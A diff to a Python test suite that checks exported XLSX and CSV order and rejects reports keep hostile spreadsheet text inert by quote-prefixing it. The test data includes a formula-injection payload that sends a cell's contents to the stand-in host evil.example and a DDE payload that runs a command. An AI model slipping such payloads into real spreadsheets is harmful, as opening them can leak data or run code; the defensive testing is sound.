@@ -225,7 +225,8 @@ HOSTILE_TEXT = ['=HYPERLINK("https://evil.example/?d="&A1,"Klik")', "+62 812 345
 
 
 def _assert_inert_xlsx(path: Path) -> set[str]:
-    """No formula cell anywhere; every text that would start a formula starts with a quote. Returns all text."""
+    """No formula cell anywhere; every text that would start a formula is a quote-prefixed string cell
+    (it shows as written and stays text when edited). Returns all text."""
     wb = openpyxl.load_workbook(path)
     seen = set()
     for ws in wb.worksheets:
@@ -233,7 +234,9 @@ def _assert_inert_xlsx(path: Path) -> set[str]:
             for c in row:
                 assert c.data_type != "f", f"{path.name} {ws.title}!{c.coordinate} is a formula: {c.value!r}"
                 if isinstance(c.value, str):
-                    assert not c.value.startswith(FORMULA_START), f"{ws.title}!{c.coordinate}: {c.value!r}"
+                    assert c.data_type == "s", f"{ws.title}!{c.coordinate}: {c.value!r}"
+                    if c.value.startswith(FORMULA_START):
+                        assert c.quotePrefix, f"{ws.title}!{c.coordinate} has no quote prefix: {c.value!r}"
                     seen.add(c.value)
     return seen
 
@@ -247,10 +250,12 @@ def _assert_inert_csv(path: Path) -> set[str]:
 
 def test_rejects_reports_hold_hostile_text_inert(results):
     report = Path(results["formula_text.csv"]["report"])
-    seen = _assert_inert_xlsx(report) | _assert_inert_csv(report.with_suffix(".csv"))
-    # The group still sees what it wrote (quoted), in its own sheet and among the problems.
-    assert "'=1+1" in seen and "'+62 812 3456 7890" in seen
-    assert "'" + '=HYPERLINK("https://evil.example/?"&A1,"Klik")' in seen
+    in_xlsx, in_csv = _assert_inert_xlsx(report), _assert_inert_csv(report.with_suffix(".csv"))
+    # The group still sees exactly what it wrote, in its own sheet and among the problems (the CSV,
+    # having no cell styles, quotes it).
+    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
+    assert {"=1+1", "+62 812 3456 7890", hyperlink} <= in_xlsx
+    assert "'=1+1" in in_csv  # the CSV lists the problem values only
 
 
 def test_order_sheets_hold_hostile_buyers_inert(tmp_path, monkeypatch):
@@ -288,10 +293,10 @@ def test_order_sheets_hold_hostile_buyers_inert(tmp_path, monkeypatch):
             rt.close()
     xlsx = [p for p in paths if p.suffix == ".xlsx"]
     assert xlsx and all(p.parent.name == "g" for p in paths)
-    seen = set()
-    for p in paths:
-        seen |= _assert_inert_xlsx(p) if p.suffix == ".xlsx" else _assert_inert_csv(p)
-    assert "'+62 812 3456 7890" in seen and "'=1+2 Keripik" in seen and "'@SUM(1+1)*cmd|' /C calc'!A0" in seen
+    in_xlsx = set().union(*(_assert_inert_xlsx(p) for p in paths if p.suffix == ".xlsx"))
+    in_csv = set().union(*(_assert_inert_csv(p) for p in paths if p.suffix == ".csv"))
+    shown = {"+62 812 3456 7890", "=1+2 Keripik", "@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert shown <= in_xlsx and {"'" + v for v in shown} <= in_csv
     # Numbers stay numbers (sums work); a line break inside a cell stays inside it.
     ws = openpyxl.load_workbook(xlsx[0]).worksheets[0]
     header = [c.value for c in ws[1]]
